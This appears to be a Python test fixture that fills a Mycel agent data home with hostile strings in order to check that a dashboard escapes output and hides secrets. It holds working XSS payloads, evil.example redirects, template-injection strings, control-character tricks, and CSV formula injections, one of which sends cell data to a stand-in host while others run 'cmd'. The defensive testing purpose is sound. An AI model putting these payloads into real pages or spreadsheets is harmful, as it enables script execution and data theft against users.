"""Hostile strings, and a whole Mycel data home full of them, written through the real libraries.

Every payload that could run sets `window.__pwned` (and most also try a dialog), so a browser test only
has to look at one flag. `write_hostile_home` plays a thread through LangGraph's real saver
(`memory_core.demo.build_thread`) and fills Mycel's other tables with the demo's table writers.
"""

from __future__ import annotations

import html
import json
import sqlite3
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

from langchain_core.messages import AIMessage, HumanMessage, ToolMessage

from memory_core.demo import (
    FileOperationsTableRow,
    Human,
    MemberRow,
    MessageQueueTableRow,
    Reply,
    RunEventsTableRow,
    SandboxRecord,
    SummaryEntry,
    ThreadScript,
    ThreadsTableRow,
    ToolUse,
    Turn,
    build_thread,
    write_file_operations,
    write_queue,
    write_run_events,
    write_sandbox,
    write_summaries,
    write_threads_table,
)
from tests.dashboard.planting import plant_thread

# --------------------------------------------------------------------------------------- the catalogue

MARKUP: dict[str, str] = {
    "script": '<script>window.__pwned=1;alert("script")</script>',
    "img_onerror": '<img src=x onerror="window.__pwned=2;alert(2)">',
    "svg_onload": '<svg onload="window.__pwned=3;alert(3)"><circle r="9"></circle></svg>',
    "svg_script": '<svg><script href="data:,window.__pwned=4"></script></svg>',
    "javascript_url": '<a href="javascript:window.__pwned=5;alert(5)">open</a>',
    "close_script_in_json": "</script><script>window.__pwned=6;alert(6)</script>",
    "attribute_breakout": '"><img src=x onerror=window.__pwned=7>',
    "single_quote_breakout": "'><svg onload=window.__pwned=8>",
    "iframe": '<iframe src="javascript:window.top.__pwned=9"></iframe>',
    "css": '<style>body{background:url("https://evil.example/x.png")}</style>'
    '<div style="background-image:url(javascript:window.__pwned=10)">css</div>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base_tag": '<base href="https://evil.example/">',
    "entity_smuggle": "&lt;script&gt;window.__pwned=11&lt;/script&gt; & &amp;",
}
TEMPLATE_SYNTAX = "{{ request.user.password }} {% debug %} {% csrf_token %} {{ 7|add:7 }}"
CONTROL = "NUL:\x00 ESC:\x1b[31mred\x1b[0m BEL:\x07 RLO:\u202egnp.exe DEL:\x7f end"
JAVASCRIPT_URL = "javascript:window.__pwned=12;alert(12)"
CSV_FORMULAS: dict[str, str] = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
LONE_SURROGATE = "lone \ud800 surrogate"  # JSON writers escape it as "\\ud800"; it is not UTF-8
LONG_LINE_CHARS = 1_000_000
# Credentials under the spellings real configs and providers use; each value is unique and greppable.
SECRETS: dict[str, str] = {
    "api_key": "sk-leak-api-key-0001",
    "apiKey": "leak-apiKey-0002",
    "API-KEY": "leak-API-KEY-0003",
    "openai_api_key": "sk-leak-openai-0004",
    "access_token": "leak-access-token-0005",
    "refresh_token": "leak-refresh-token-0006",
    "Authorization": "Bearer leak-authorization-0007",
    "password": "leak-password-0008",
    "secret": "leak-secret-0009",
    "client_secret": "leak-client-secret-0010",
    "private_key": "leak-private-key-0011",
    "aws_secret_access_key": "leak-aws-secret-0012",
    "cookie": "sessionid=leak-cookie-0013",
}
EVERYTHING = " ".join([*MARKUP.values(), TEMPLATE_SYNTAX, JAVASCRIPT_URL])


def escaped(text: str) -> str:
    """The form a payload must take in HTML (what Django's autoescape produces)."""
    return html.escape(text, quote=True)


def long_line(chars: int = LONG_LINE_CHARS) -> str:
    """One line of `chars` characters, payloads included, no newline anywhere."""
    unit = MARKUP["img_onerror"] + " " + MARKUP["script"] + " "
    return (unit * (chars // len(unit) + 1))[:chars]


# ------------------------------------------------------------------------------------------ the home

SPILL_TOOL = "Read"  # spills above 50,000 bytes (Mycel's default threshold)
HOSTILE_ID = 'm_x"><img src=x onerror=window.__pwned=13>-1'  # no "/", so it is a valid URL part
BAD_UTF8_MARK = "UTF8-MARK-0123456789"


@dataclass(frozen=True, slots=True)
class HostileHome:
    """What `write_hostile_home` wrote and where to find it."""

    folder: Path
    workspace: Path
    thread_id: str  # the main thread: played through the real graph
    metadata_thread_id: str  # one checkpoint with hostile (and secret) metadata values
    bad_utf8_thread_id: str  # a checkpoint blob holding invalid UTF-8
    odd_id_thread_id: str  # a thread whose id itself is a payload
    formula_thread_ids: tuple[str, ...]  # ids starting with =, +, -, @ (two checkpoints each)
    spill_ids: tuple[str, ...]
    secrets: Mapping[str, str] = field(default_factory=dict)

    @property
    def thread_ids(self) -> tuple[str, ...]:
        return (
            self.thread_id,
            self.metadata_thread_id,
            self.bad_utf8_thread_id,
            self.odd_id_thread_id,
            *self.formula_thread_ids,
        )


def _script(workspace: Path, secrets: Mapping[str, str]) -> ThreadScript:
    m = MARKUP
    first = Human(
        f"Please summarise this page: {EVERYTHING}",
        {"source": "owner", "sender_name": m["img_onerror"], "sender_avatar_url": JAVASCRIPT_URL, **secrets},
    )
    second = Human(f"{CONTROL}\n{long_line(60_000)}", {"source": "external", "sender_name": m["svg_onload"]})
    third = Human(TEMPLATE_SYNTAX, {"source": "owner", "sender_name": None})
    hard_clear = (m["script"] + " " + m["img_onerror"] + "\n") * 250  # ~19 k: hard-cleared once old
    return ThreadScript(
        style="openai",
        model=m["svg_onload"],
        model_provider=m["attribute_breakout"],
        base_url=JAVASCRIPT_URL,
        turns=(
            Turn(
                first,
                (
                    Reply(
                        f"Fetching {m['javascript_url']}",
                        (
                            ToolUse(
                                "Bash",
                                {"command": m["close_script_in_json"], "description": TEMPLATE_SYNTAX},
                                output=hard_clear,
                            ),
                            ToolUse(SPILL_TOOL, {"file_path": m["img_onerror"]}, output=long_line()),
                        ),
                    ),
                    Reply(f"Done: {m['close_script_in_json']} {m['css']}"),
                ),
            ),
            Turn(
                second,
                (
                    Reply(
                        m["single_quote_breakout"],
                        (
                            ToolUse(
                                "Write",
                                {
                                    "file_path": f"{workspace}/notes-{m['img_onerror']}.md",
                                    "content": EVERYTHING,
                                },
                            ),
                        ),
                    ),
                    Reply(f"Wrote it. {m['iframe']}"),
                ),
            ),
            Turn(
                third,
                (
                    Reply("", (ToolUse("Bash", {"command": "true"}, output=m["svg_script"] + CONTROL),)),
                    Reply(
                        "", (ToolUse("Bash", {"command": "true"}, output=m["meta_refresh"] + m["base_tag"]),)
                    ),
                    Reply(f"All done {m['entity_smuggle']} {TEMPLATE_SYNTAX}"),
                ),
            ),
        ),
    )


def _plant_bad_utf8(leon_db: Path, thread_id: str) -> None:
    """A checkpoint whose msgpack blob holds a string of invalid UTF-8 (and a lone surrogate's bytes)."""
    plant_thread(
        leon_db,
        thread_id,
        [
            HumanMessage(content=f"before {BAD_UTF8_MARK} after {MARKUP['script']}", id="u1"),
            AIMessage(content=f"reply {MARKUP['img_onerror']}", id="u2"),
        ],
        metadata={"model": "gpt-4o-mini"},
    )
    bad = (b"\xff\xfe\xed\xa0\x80\xc3(" + b"\x80" * 64)[: len(BAD_UTF8_MARK)]
    with sqlite3.connect(leon_db) as db:
        rows = db.execute(
            "SELECT checkpoint_id, checkpoint FROM checkpoints WHERE thread_id = ?", (thread_id,)
        )
        for checkpoint_id, blob in rows.fetchall():
            patched = bytes(blob).replace(BAD_UTF8_MARK.encode(), bad)
            db.execute(
                "UPDATE checkpoints SET checkpoint = ? WHERE thread_id = ? AND checkpoint_id = ?",
                (patched, thread_id, checkpoint_id),
            )
    db.close()


def _formula_threads(leon_db: Path) -> tuple[str, ...]:
    ids = []
    for prefix, formula in CSV_FORMULAS.items():
        thread_id = f"{prefix}SUM(1+1)-{len(ids) + 1}"
        for step in (1, 2):
            plant_thread(
                leon_db,
                thread_id,
                [HumanMessage(content=f"{formula} step {step}", id=f"f{step}")],
                metadata={"model": formula, "step": step},
            )
        ids.append(thread_id)
    return tuple(ids)


def _write_config(folder: Path, workspace: Path, secrets: Mapping[str, str]) -> None:
    m = MARKUP
    providers = {"openai": {"api_key": secrets.get("api_key", "sk-none"), "base_url": JAVASCRIPT_URL}}
    runtime = {
        "runtime": {"context_limit": 0, "enable_audit_log": True},
        "memory": {
            "pruning": {"soft_trim_chars": 3000, "hard_clear_threshold": 10000, "protect_recent": 3},
            "compaction": {"keep_recent_tokens": 20000, m["script"]: m["img_onerror"]},
            m["svg_onload"]: TEMPLATE_SYNTAX,
        },
        "tools": {"spill_buffer": {"enabled": True, "default_threshold": 50000}},
        m["attribute_breakout"]: {"note": m["close_script_in_json"], "odd": LONE_SURROGATE, **secrets},
        "providers": providers,
    }
    models = {
        "providers": providers,
        "mapping": {
            "leon:evil": {
                "model": m["img_onerror"],
                "provider": "openai",
                "context_limit": 64000,
                "description": m["script"],
                **secrets,
            }
        },
    }
    (folder / "runtime.json").write_text(json.dumps(runtime, indent=2), encoding="utf-8")
    (folder / "models.json").write_text(json.dumps(models, indent=2, ensure_ascii=False), encoding="utf-8")
    project = workspace / ".leon"
    project.mkdir(parents=True, exist_ok=True)
    (project / "runtime.json").write_text(
        json.dumps({"memory": {"pruning": {"protect_recent": 3}}, m["iframe"]: CONTROL, **secrets}),
        encoding="utf-8",
    )


def _extra_events(thread_id: str, run_id: str) -> list[RunEventsTableRow]:
    return [
        RunEventsTableRow(thread_id, run_id, MARKUP["script"], {"content": EVERYTHING, **dict(CSV_FORMULAS)}, None,
                 "2026-01-01 00:00:00"),
        RunEventsTableRow(thread_id, run_id, "text", {"content": CONTROL, "url": JAVASCRIPT_URL}, MARKUP["svg_onload"],
                 "2026-01-01 00:00:01"),
    ]  # fmt: skip


def _lone_surrogate_event(events_db: Path, thread_id: str) -> None:
    # json.dumps escapes the surrogate (ensure_ascii), as a JSON writer may; json.loads brings it back.
    with sqlite3.connect(events_db) as db:
        db.execute(
            "INSERT INTO run_events (thread_id, run_id, event_type, data, message_id, created_at)"
            " VALUES (?, 'run-surrogate', 'text', ?, NULL, '2026-01-01 00:00:02')",
            (thread_id, json.dumps({"content": LONE_SURROGATE + MARKUP["script"]})),
        )
    db.close()


def write_hostile_home(folder: Path, *, secrets: Mapping[str, str] | None = None) -> HostileHome:
    """Write a small Mycel data home in which every string a page could show is hostile.

    `secrets` (key spelling → value) are planted as checkpoint metadata, message metadata, runtime.json,
    models.json (`providers.*.api_key`) and the project layer, for the tests that prove none leaks.
    """
    secrets = dict(secrets or {})
    m = MARKUP
    folder.mkdir(parents=True, exist_ok=True)
    leon_db = folder / "leon.db"
    workspace = folder / "workspaces" / "hostile"
    owner_id, agent_id = "dev-user", "m_hostileAgent"
    thread_id = f"{agent_id}-1"

    built = build_thread(leon_db, thread_id, _script(workspace, secrets), seed=11, workspace=workspace)
    for spill in built.spill_files:  # a tool may write any bytes: invalid UTF-8 and a surrogate's encoding
        with spill.open("ab") as handle:
            handle.write(b"\ninvalid utf-8: \xff\xfe \xed\xa0\x80 \xc3(")
    metadata_thread = f"{agent_id}-2"
    nested = {"headers": {"Authorization": "x"}, "list": [{"note": m["svg_onload"]}]}
    plant_thread(
        leon_db,
        metadata_thread,
        [HumanMessage(content="meta", id="m1"), AIMessage(content=m["script"], id="m2")],
        metadata={
            "model": m["img_onerror"],
            m["script"]: m["svg_onload"],
            "run_id": m["attribute_breakout"],
            "note": TEMPLATE_SYNTAX,
            "lone_surrogate": LONE_SURROGATE,
            "nested": {**nested, "inner": dict(secrets), "items": [dict(secrets)]},
            **secrets,
        },
    )
    plant_thread(
        leon_db,
        HOSTILE_ID,
        [
            HumanMessage(content=m["script"], id="o1"),
            AIMessage(
                content="", id="o2", tool_calls=[{"id": "call_o1", "name": m["img_onerror"], "args": {}}]
            ),
            ToolMessage(content=m["svg_onload"], tool_call_id="call_o1", id="o3"),
        ],
        metadata={"model": m["script"]},
    )
    bad_utf8 = f"{agent_id}-3"
    _plant_bad_utf8(leon_db, bad_utf8)
    formula_ids = _formula_threads(leon_db)

    now = 1_767_225_600.0
    members = [
        MemberRow(owner_id, m["script"], "human", JAVASCRIPT_URL, None, None, None, now, None, 0),
        MemberRow(agent_id, m["img_onerror"], "mycel_agent", JAVASCRIPT_URL, m["svg_onload"], None, owner_id,
                  now, now, 4),
    ]  # fmt: skip
    threads = [
        ThreadsTableRow(thread_id, agent_id, "local", m["svg_onload"], str(workspace), None, m["script"], 1, 0, now),
        ThreadsTableRow(metadata_thread, agent_id, "local", m["css"], None, None, None, 0, 1, now),
        ThreadsTableRow(HOSTILE_ID, agent_id, m["script"], "gpt-4o-mini", None, None, None, 0, 2, now),
    ]  # fmt: skip
    write_threads_table(leon_db, threads, members)
    write_summaries(
        folder / "summary.db",
        [
            SummaryEntry(f"{thread_id}_old", thread_id, f"old {m['iframe']}", 2, 4, False, None, False,
                         "2026-01-01T00:00:00"),
            SummaryEntry(f"{thread_id}_new", thread_id, f"Summary: {EVERYTHING}", 2, 6, True,
                         f"prefix {m['svg_onload']} {TEMPLATE_SYNTAX}", True, "2026-01-01T00:01:00"),
        ],
    )  # fmt: skip
    operations = [
        *built.file_operations,
        FileOperationsTableRow("op-evil", thread_id, m["script"], now, m["img_onerror"], f"../../{m['svg_onload']}",
                      m["css"], EVERYTHING, json.dumps([{"old_string": m["script"]}])),
    ]  # fmt: skip
    write_file_operations(folder / "file_ops.db", operations)
    run_id = built.runs[-1].run_id
    write_run_events(
        folder / "events.db", [e for r in built.runs for e in r.events] + _extra_events(thread_id, run_id)
    )
    _lone_surrogate_event(folder / "events.db", thread_id)
    write_queue(
        folder / "queue.db",
        [
            MessageQueueTableRow(thread_id, EVERYTHING, "steer", m["script"], owner_id, m["img_onerror"], "2026-01-01 00:00:00"),
            MessageQueueTableRow(thread_id, CSV_FORMULAS["="], m["svg_onload"], None, None, TEMPLATE_SYNTAX, "2026-01-01 00:00:01"),
        ],
    )  # fmt: skip
    write_sandbox(
        folder / "sandbox.db",
        [
            SandboxRecord(thread_id, "vol-1", f"/tmp/{m['img_onerror']}", "lease-1", "inst-1", "term-1",
                          f"/tmp/{m['svg_onload']}", "sess-1", "rt-1", "evt-1", "2026-01-01T00:00:00",
                          "2026-01-01T00:00:00", "2026-01-01T00:00:00Z"),
        ],
    )  # fmt: skip
    _write_config(folder, workspace, secrets)
    return HostileHome(
        folder=folder,
        workspace=workspace,
        thread_id=thread_id,
        metadata_thread_id=metadata_thread,
        bad_utf8_thread_id=bad_utf8,
        odd_id_thread_id=HOSTILE_ID,
        formula_thread_ids=formula_ids,
        spill_ids=tuple(p.stem for p in built.spill_files),
        secrets=secrets,
    )


def main() -> None:  # pragma: no cover - a manual look: python -m tests.hostile.payloads FOLDER
    import sys

    home = write_hostile_home(Path(sys.argv[1]))
    print(home)


if __name__ == "__main__":  # pragma: no cover
    main()
